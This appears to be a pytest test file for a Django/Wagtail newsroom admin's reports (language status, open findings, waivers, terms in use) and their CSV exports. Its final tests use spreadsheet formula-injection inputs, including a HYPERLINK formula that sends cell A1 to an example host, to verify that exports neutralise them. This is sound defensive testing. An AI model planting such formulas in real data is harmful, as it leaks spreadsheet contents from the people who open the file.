"""The admin's reports: what they count, how they filter, what they cost, and what a spreadsheet is given."""

from __future__ import annotations

import csv
import importlib.metadata
import io
import re
import time
from collections.abc import Callable, Iterable, Iterator, Mapping
from datetime import date
from typing import Any

import lxml.html
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from wagtail.users.models import UserProfile

from briefings import runs
from briefings.checking.draft_findings import _code, _Examiner, draft_findings, uses_of_terms
from briefings.checking.finding_kinds import KINDS, kind_of
from briefings.checking.findings import SENTENCES, Described, described
from briefings.checking.parity_sentences import PARITY_SENTENCES
from briefings.models import AssemblyRun, Briefing, StoredExamination
from briefings.records.language_status import statuses
from briefings.records.newest_texts import Loaded, load_texts
from briefings.texts.reports import MOST_TEXTS
from briefings.work.faults import MOST_ATTEMPTS
from languages.spreadsheets import plain_cell, safe_cell
from projects.models import Bureau, CooperationItem
from reviews.models import Waiver
from stakeholders.models import Perspective
from vocabulary.models import Pillar, Term

pytestmark = pytest.mark.django_db
REPORTS = "/admin/reports/"
CODE = re.compile(r"[a-z]+[._][a-z0-9]")
SLUG = "bac-ninh-dong-nam-new-town"


@pytest.fixture
def client(enter: Callable[[str], Client]) -> Client:
    return enter("briefing-editor")


def _table(client: Client, address: str) -> list[dict[str, str]]:
    answer = client.get(REPORTS + address)
    assert answer["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.getvalue().decode("utf-8-sig"))))


def _stale() -> None:
    item = CooperationItem.objects.get(slug=SLUG).specific
    item.summary_ko = item.summary_ko.rstrip(".") + " 등."
    item.save_revision().publish()


def test_the_matrix_counts_every_kind_of_record_and_follows_a_change(client: Client) -> None:
    before = _table(client, "language-status/?export=csv&language=en")
    _stale()

    after = _table(client, "language-status/?export=csv&language=en&state=stale")

    assert len({row["Kind"] for row in before}) == 9
    assert {row["Reviewed, %"] for row in before} == {"100"}
    assert len(after) == 1
    assert after[0]["stale"] == "1"
    assert int(after[0]["Reviewed, %"]) < 100


def test_the_matrix_is_filtered_by_kind_bureau_language_and_state(client: Client) -> None:
    items = CooperationItem.objects.count()
    bureau = CooperationItem.objects.get(slug=SLUG).get_parent()

    by_kind = _table(client, "language-status/?export=csv&kind=item&language=zh-hans")
    by_bureau = _table(client, f"language-status/?export=csv&bureau={bureau.slug}&language=zh-hans")

    assert len(by_kind) == items
    assert {row["Language"] for row in by_kind} == {"简体中文"}
    assert len(by_bureau) == bureau.get_children().count() < items
    assert _table(client, "language-status/?export=csv&state=missing&kind=pillar") == []


def test_the_matrix_costs_the_same_queries_for_more_items(client: Client) -> None:
    client.get(REPORTS + "language-status/")
    with CaptureQueriesContext(connection) as before:
        client.get(REPORTS + "language-status/")
    for item in list(CooperationItem.objects.all()[:3]):
        item.specific.copy(update_attrs={"slug": f"{item.slug}-copy"})
    statuses()  # each new version is counted once, by whoever asks first

    with CaptureQueriesContext(connection) as after:
        client.get(REPORTS + "language-status/")

    assert len(after) == len(before) < 45


def test_open_findings_are_those_of_the_newest_run_that_nobody_let_stand(
    client: Client, account: Callable[[str], Any]
) -> None:
    _stale()
    run = AssemblyRun.objects.create(
        briefing=Briefing.objects.get(slug="2025-11"), audiences=["presidential"]
    )
    runs.work_on(run.pk)
    run.refresh_from_db()
    found = _table(client, "open-findings/?export=csv")

    client.post(
        f"/admin/briefings/{run.briefing_id}/desk/waive/",
        {"finding": run.findings[0]["digest"], "reason": "=뜻은 같음"},
    )

    assert {row["Kind"] for row in found} == {"Translation stale", "Text not reviewed"}
    assert len(_table(client, "open-findings/?export=csv")) == len(found) - 1
    assert _table(client, "open-findings/?export=csv&severity=advice") == []
    waivers = _table(client, "waivers/?export=csv")
    assert [(row["Approved by"], row["Reason"], row["Now"]) for row in waivers] == [
        ("briefing-editor", "'=뜻은 같음", "in force")
    ]
    headline = CooperationItem.objects.get(slug=SLUG).headline_en
    assert headline in client.get(REPORTS + "waivers/").content.decode()
    assert Waiver.objects.get().by == account("briefing-editor")


def test_a_run_that_fails_before_its_checks_hides_no_finding_and_mends_none(
    client: Client, account: Callable[[str], Any]
) -> None:
    _stale()
    briefing = Briefing.objects.get(slug="2025-11")
    run = AssemblyRun.objects.create(briefing=briefing, audiences=["presidential"])
    runs.work_on(run.pk)
    run.refresh_from_db()
    client.post(
        reverse("finding-waive", args=[briefing.pk]),
        {"finding": run.findings[0]["digest"], "reason": "뜻은 같음"},
    )
    found = _table(client, "open-findings/?export=csv")

    _fail_before_the_checks(briefing)

    assert _table(client, "open-findings/?export=csv") == found != []
    assert [row["Now"] for row in _table(client, "waivers/?export=csv")] == ["in force"]
    desk = client.get(reverse("briefing-desk", args=[briefing.pk])).content.decode()
    assert desk.count('class="finding finding--') == len(run.findings)
    assert "The latest run failed before its checks. These are of the run of " in desk
    second = client.post(
        reverse("finding-waive", args=[briefing.pk]),
        {"finding": run.findings[1]["digest"], "reason": "뜻은 같음"},
        follow=True,
    )
    assert "The finding stands" in second.content.decode()


def _fail_before_the_checks(briefing: Briefing) -> None:
    """A run over which worker after worker died while it collected."""
    run = AssemblyRun.objects.create(
        briefing=briefing, audiences=["presidential"], step="collect", attempts=MOST_ATTEMPTS
    )
    runs.work_on(run.pk)
    run.refresh_from_db()
    assert run.state == "failed"


def _open(client: Client, query: str = "") -> list[dict[str, str]]:
    return _table(client, f"open-findings/?export=csv{query}")


def test_a_saved_draft_has_its_findings_before_anybody_assembles(client: Client) -> None:
    item = CooperationItem.objects.get(slug=SLUG).specific
    item.summary_zh_hans += "国土交通省另投资3亿韩元。"
    item.save_revision()

    found = _open(client)

    assert {(row["Kind"], row["Found in"], row["Briefing"]) for row in found} >= {
        ("Name that must not be used", "draft", ""),
        ("Figure in one language only", "draft", ""),
    }
    assert _open(client, "&found=run") == []
    assert len(_open(client, "&found=draft")) == len(found)


def test_drafts_findings_stand_in_the_order_of_their_records_whatever_was_written_last() -> None:
    items = list(CooperationItem.objects.order_by("path")[:8])
    for item in reversed(items):
        draft = item.specific
        draft.summary_en += " It costs 77 million dollars."
        draft.save_revision()

    draft_findings(60)
    StoredExamination.objects.update(used_at=timezone.now())

    found = draft_findings(60).findings

    assert list(dict.fromkeys(each["place"]["slug"] for each in found)) == [item.slug for item in items]


def test_findings_in_a_perspective_and_a_pillar_are_listed_too(client: Client) -> None:
    perspective = Perspective.objects.filter(messages__isnull=False).first()
    assert perspective is not None
    messages = list(perspective.messages.all())
    messages[0].message_en += " [[no-item/no-figure]]"
    perspective.messages = messages
    perspective.save_revision()
    pillar = Pillar.objects.get(slug="uam")
    pillar.message_zh_hans = "國土"
    pillar.save_revision()

    found = {(row["Kind"], row["Language"]) for row in _open(client)}

    assert {("Figure not found", "English"), ("Traditional characters", "简体中文")} <= found


def test_what_a_run_and_a_draft_both_have_is_told_once_and_a_waiver_holds_for_both(client: Client) -> None:
    item = CooperationItem.objects.get(slug=SLUG).specific
    item.summary_en += " It also invests KRW 300 million."
    item.save_revision().publish()
    run = AssemblyRun.objects.create(
        briefing=Briefing.objects.get(slug="2025-11"), audiences=["presidential"]
    )
    runs.work_on(run.pk)
    run.refresh_from_db()
    found = [row for row in _open(client) if row["Kind"] == "Figure in one language only"]

    digest = next(each["digest"] for each in run.findings if each["code"] == "figure-added")
    client.post(
        f"/admin/briefings/{run.briefing_id}/desk/waive/", {"finding": digest, "reason": "따로 승인함"}
    )

    assert [(row["Found in"], row["Briefing"]) for row in found] == [
        ("draft, newest run", "November 2025 issue")
    ]
    assert [row for row in _open(client) if row["Kind"] == "Figure in one language only"] == []


def test_texts_that_were_examined_once_are_not_examined_again(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    draft_findings(seconds=60)
    monkeypatch.setattr("briefings.checking.draft_findings._examined", None)

    assert draft_findings(seconds=0).left == 0


@pytest.mark.parametrize("library", ["opencc", "msgspec"])
def test_after_an_upgrade_of_a_library_that_the_checks_ask_every_record_is_examined_anew(
    monkeypatch: pytest.MonkeyPatch, library: str
) -> None:
    versions = importlib.metadata.version
    draft_findings(seconds=60)
    assert draft_findings(seconds=0).left == 0

    monkeypatch.setattr(
        "briefings.assembly.examination.version", lambda name: "0" if name == library else versions(name)
    )
    _code.cache_clear()  # as in the process that the upgrade starts

    try:
        assert draft_findings(seconds=0).left > 0
    finally:
        _code.cache_clear()


def test_records_that_time_did_not_allow_to_examine_are_counted(client: Client) -> None:
    StoredExamination.objects.all().delete()

    first = draft_findings(seconds=0)
    second = draft_findings(seconds=0)

    assert first.left > 10
    assert second.left == first.left - 1


def test_records_are_read_together_to_be_examined() -> None:
    slugs = [item.slug for item in CooperationItem.objects.all() if type(item.specific) is CooperationItem][
        :6
    ]

    def queries(number: int) -> int:
        StoredExamination.objects.all().delete()
        loaded = list(load_texts(("item",), slugs=slugs[:number]))
        with CaptureQueriesContext(connection) as asked:
            found, left = _Examiner().examine(loaded, time.monotonic() + 60)
        assert (len(found), left) == (number, [])
        return len(asked)

    assert queries(6) == queries(2)


NOTHING_OPEN = "Nothing is open"


def _said(client: Client, address: str) -> str:
    return client.get(REPORTS + address).content.decode()


def test_a_filter_that_matches_nothing_is_told_from_a_report_without_any_finding(client: Client) -> None:
    draft_findings(seconds=60)

    everything, filtered = _said(client, "open-findings/"), _said(client, "open-findings/?severity=advice")

    assert NOTHING_OPEN in everything
    assert "No finding matches these filters." in filtered
    assert NOTHING_OPEN not in filtered
    status = _said(client, "language-status/?state=missing&kind=pillar")
    assert "No record matches these filters." in status
    assert "All together" not in status


def test_nothing_is_said_to_be_open_only_once_everything_was_examined(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    StoredExamination.objects.all().delete()
    monkeypatch.setattr("briefings.checking.draft_findings.SECONDS", 0)

    page = _said(client, "open-findings/")

    assert "are not examined yet" in page
    assert "Nothing was found in what has been examined so far." in page
    assert NOTHING_OPEN not in page


@pytest.mark.parametrize(
    ("language", "kind"), [("ko", "수치 불일치"), ("zh-hans", "数值不一致"), ("en", "Figures differ")]
)
def test_kinds_of_findings_have_names(language: str, kind: str) -> None:
    with translation.override(language):
        assert kind_of("figure-differs") == kind
    assert KINDS.keys() == {*SENTENCES, *PARITY_SENTENCES}


@pytest.mark.parametrize(
    ("language", "bureau"), [("zh-hans", "name_zh_hans"), ("en", "name_en"), ("ko", "name_ko")]
)
def test_the_matrix_and_the_review_page_name_records_in_the_readers_language(
    client: Client, account: Callable[[str], Any], language: str, bureau: str
) -> None:
    profile = UserProfile.get_for_user(account("briefing-editor"))
    profile.preferred_language = language
    profile.save()
    item = CooperationItem.objects.get(slug=SLUG)
    names = {getattr(each, bureau) for each in Bureau.objects.all()}

    matrix = lxml.html.fromstring(client.get(REPORTS + "language-status/").content.decode())
    review = client.get(f"/admin/languages/review/{item.specific._meta.label_lower}/{item.pk}/")

    assert {option.text for option in matrix.xpath("//select[@name='bureau']/option[@value!='']")} == names
    assert {cell.text for cell in matrix.xpath("//tbody/tr[th/a]/td[2]")} - {None} <= names
    heading = lxml.html.fromstring(review.content.decode()).xpath("string(//h1 | //header)")
    assert getattr(item, f"headline_{language.replace('-', '_')}") in heading


def test_terms_in_use_say_where_and_leave_out_the_terms_own_texts(client: Client) -> None:
    term = Term.objects.get(preferred_ko="국토교통부")
    _rows = _table(client, "terms-in-use/?export=csv")
    korean = [row for row in _rows if row["Term"] == term.identifier and row["Language"] == "한국어"]

    assert len(korean) > 100
    assert {row["简体中文"] for row in korean} == {term.preferred_zh_hans}
    assert not [row["Field"] for row in _rows if CODE.search(row["Field"])]
    unused = _table(client, "terms-in-use/?export=csv&use=unused")
    assert all(row["Record"] == "" for row in unused)
    assert term.identifier not in {row["Term"] for row in unused}


def test_every_report_reads_in_three_languages(client: Client, account: Callable[[str], Any]) -> None:
    profile = UserProfile.get_for_user(account("briefing-editor"))
    titles = {
        "ko": ("언어별 현황", "미해결 점검사항", "예외 승인 내역", "용어 사용 현황"),
        "zh-hans": ("语种进度", "未解决的核查问题", "例外批准记录", "术语使用情况"),
        "en": ("Language status", "Open findings", "Waivers", "Terms in use"),
    }
    for language, expected in titles.items():
        profile.preferred_language = language
        profile.save()

        for name, title in zip(
            ("language-status", "open-findings", "waivers", "terms-in-use"), expected, strict=True
        ):
            assert title in client.get(f"{REPORTS}{name}/").content.decode()


@pytest.mark.parametrize(
    ("language", "place"),
    [
        ("ko", "스마트시티 기여 · 문장"),
        ("zh-hans", "对“智慧城市”的贡献 · 句子"),
        ("en", "Contribution to “Smart city” · Sentence"),
    ],
)
def test_terms_in_use_lead_to_the_text_as_its_form_names_it(
    client: Client, account: Callable[[str], Any], language: str, place: str
) -> None:
    client.force_login(account("administrator"))
    profile = UserProfile.get_for_user(account("administrator"))
    profile.preferred_language = language
    profile.save()
    page = lxml.html.fromstring(client.get(REPORTS + "terms-in-use/").content.decode())

    links = {link.text_content(): link.get("href") for link in page.xpath("//details//li/a")}

    assert not [name for name in links if CODE.search(name)]
    assert any(name.endswith(place) and "#inline_child_contributions-" in to for name, to in links.items())


def _more_items() -> None:
    """Copies, behind their originals, and examined: each new version is, once, by whoever asks first."""
    for item in list(CooperationItem.objects.all()[:3]):
        item.specific.copy(update_attrs={"slug": f"{item.slug}-copy"})
    assert uses_of_terms(60).left == 0


def test_terms_in_use_cost_the_same_queries_for_more_items(client: Client) -> None:
    client.get(REPORTS + "terms-in-use/")
    with CaptureQueriesContext(connection) as before:
        client.get(REPORTS + "terms-in-use/")
    _more_items()

    with CaptureQueriesContext(connection) as after:
        client.get(REPORTS + "terms-in-use/")

    assert len(after) == len(before)


def test_terms_in_use_read_no_more_records_than_they_name(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    read: list[str] = []

    def noting(*asked: Any, **slugs: Any) -> Iterator[Loaded]:
        for loaded in load_texts(*asked, **slugs):
            read.append(loaded.slug)
            yield loaded

    def records_read() -> list[str]:
        read.clear()
        client.get(REPORTS + "terms-in-use/")
        return sorted(read)

    uses_of_terms(60)
    monkeypatch.setattr("briefings.texts.reports.MOST_TEXTS", 1)
    monkeypatch.setattr("briefings.texts.reports.load_texts", noting)
    monkeypatch.setattr("briefings.checking.draft_findings.load_texts", noting)
    before = records_read()
    _more_items()

    assert records_read() == before
    assert len(before) < CooperationItem.objects.count()
    read.clear()
    _table(client, "terms-in-use/?export=csv")
    assert read == []


def test_of_a_term_that_many_texts_use_a_page_names_some_and_the_file_all(client: Client) -> None:
    term = Term.objects.get(preferred_ko="국토교통부")
    rows = [row for row in _table(client, "terms-in-use/?export=csv") if row["Term"] == term.identifier]

    page = lxml.html.fromstring(client.get(REPORTS + "terms-in-use/").content.decode())
    row = page.xpath(f"//tr[th[normalize-space()='{term.identifier}']]")[0]

    texts = {(each["Record"], each["Field"]) for each in rows}
    assert len(row.xpath(".//li")) == MOST_TEXTS
    number = int(row.xpath("string(.//summary)").split()[0])
    assert number >= len(texts) > 5 * MOST_TEXTS
    assert f"And {number - MOST_TEXTS} more texts; the CSV file names them all." in row.text_content()
    for language, cell in zip(("한국어", "简体中文", "English"), row.xpath("td[@lang]"), strict=True):
        assert f"({len([each for each in rows if each['Language'] == language])})" in cell.text_content()


def _uses(client: Client, term: Term) -> set[tuple[str, str]]:
    uses_of_terms(seconds=60)  # a busy machine would leave some of them for the next look
    rows = _table(client, "terms-in-use/?export=csv")
    return {(row["Record"], row["Field"]) for row in rows if row["Term"] == term.identifier and row["Record"]}


def test_terms_in_use_follow_a_changed_text_and_a_changed_term(client: Client) -> None:
    item = CooperationItem.objects.get(slug=SLUG).specific
    term = Term.objects.create(
        identifier="X-1", preferred_ko="하늘다리망", preferred_zh_hans="天桥网", preferred_en="Skybridge Web"
    )
    place = (item.headline_en, "Summary")
    assert _uses(client, term) == set()

    item.summary_en += " The skybridge webs follow."
    item.save_revision()
    assert _uses(client, term) == {place}

    term.preferred_en = "Skybridge Mesh"
    term.save()
    assert _uses(client, term) == set()

    item.summary_en = item.summary_en.replace("skybridge webs", "skybridge-mesh")
    item.save_revision()
    assert _uses(client, term) == {place}
    assert "X-1" not in {row["Term"] for row in _table(client, "terms-in-use/?export=csv&use=unused")}

    term.status = "rejected"
    term.save()
    assert "X-1" not in _said(client, "terms-in-use/")


def test_a_term_that_does_not_hold_today_is_counted_too(client: Client) -> None:
    term = Term.objects.get(preferred_ko="국토교통부")
    used = _uses(client, term)
    term.valid_until = date(2020, 1, 1)
    term.save()

    assert _uses(client, term) == used != set()


def test_terms_in_use_say_how_many_records_are_not_examined_yet(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    sentence = "are not examined yet"
    assert sentence not in _said(client, "terms-in-use/")
    StoredExamination.objects.all().delete()
    monkeypatch.setattr("briefings.checking.draft_findings.SECONDS", 0)

    assert sentence in _said(client, "terms-in-use/")


@pytest.mark.parametrize("name", ["official", "member-demo-embassy"])
def test_reports_are_for_those_who_work_on_editions(
    client: Client, account: Callable[[str], Any], name: str
) -> None:
    client.force_login(account(name))

    for report in ("language-status", "open-findings", "waivers", "terms-in-use"):
        assert client.get(f"{REPORTS}{report}/").status_code == 302


@pytest.mark.parametrize("text", ["=1+1", "+82", "-5", "@SUM(A1)", "\t=1", "＝1", "'=1", "''-5"])
def test_a_spreadsheet_takes_no_editors_text_for_a_formula(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert plain_cell(safe_cell(text)) == text
    assert safe_cell("국토교통부") == "국토교통부"
    assert plain_cell("'quoted'") == "'quoted'"


LANGUAGES_TOGETHER = "한국어, 简体中文, English"


def _run_that_misses(*fields: str) -> Briefing:
    """The sample, of whose newest run these fields are missing in every language."""
    briefing = Briefing.objects.get(slug="2025-11")
    AssemblyRun.objects.create(
        briefing=briefing,
        audiences=["presidential"],
        state="blocked",
        finished_at=timezone.now(),
        findings=[
            {
                "code": "change-note-missing",
                "severity": "blocking",
                "place": {"record": "briefing", "slug": "2025-11", "field": field, "language": language},
            }
            for field in fields
            for language in ("ko", "zh-hans", "en")
        ],
    )
    return briefing


def test_what_is_said_of_each_language_alike_is_one_row(client: Client) -> None:
    briefing = _run_that_misses("change_note")

    page = lxml.html.fromstring(client.get(REPORTS + "open-findings/").content.decode())
    desk = lxml.html.fromstring(client.get(f"/admin/briefings/{briefing.pk}/desk/").content.decode())

    for shown in (page, desk):
        rows = shown.xpath("//tr[contains(@class, 'finding')]")
        assert len(rows) == 1
        assert LANGUAGES_TOGETHER in rows[0].text_content()


def test_of_many_open_findings_only_those_of_the_page_are_put_into_words(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    _run_that_misses("change_note", "conclusion", "requests.1", "requests.2", "cautions.1")
    in_words: list[str] = []

    def noting(findings: Iterable[Mapping[str, Any]], reader: Any) -> list[Described]:
        found = described(findings, reader)
        in_words.extend(finding.where for finding in found)
        return found

    monkeypatch.setattr("briefings.texts.reports.described", noting)
    monkeypatch.setattr("briefings.texts.reports.PER_PAGE", 2)
    shown: list[str] = []
    for number, on_page in ((1, 2), (2, 2), (3, 1)):
        in_words.clear()
        page = lxml.html.fromstring(client.get(REPORTS + f"open-findings/?p={number}").content.decode())
        rows = page.xpath("//tr[contains(@class, 'finding')]")

        assert len(rows) == on_page
        assert len(in_words) == on_page * 3
        assert all(LANGUAGES_TOGETHER in row.text_content() for row in rows)
        assert "5 rows" in page.text_content()
        shown += dict.fromkeys(in_words)

    assert list(dict.fromkeys(row["Where"] for row in _table(client, "open-findings/?export=csv"))) == shown


@pytest.mark.parametrize("report", ["aging-pages", "site-history"])
def test_wagtails_own_tables_hold_no_formula_either(
    client: Client, account: Callable[[str], Any], report: str
) -> None:
    item = CooperationItem.objects.get(slug=SLUG).specific
    item.headline_en = item.headline_ko = '=HYPERLINK("https://example.org/"&A1)'
    item.save_revision(user=account("briefing-editor"), log_action=True).publish(
        user=account("briefing-editor")
    )
    client.force_login(account("administrator"))

    answer = client.get(f"/admin/reports/{report}/", {"export": "csv"})

    cells = [cell for row in csv.reader(io.StringIO(answer.getvalue().decode("utf-8-sig"))) for cell in row]
    assert [cell for cell in cells if cell.startswith("'=HYPERLINK")]
    assert [cell for cell in cells if cell.startswith("=")] == []
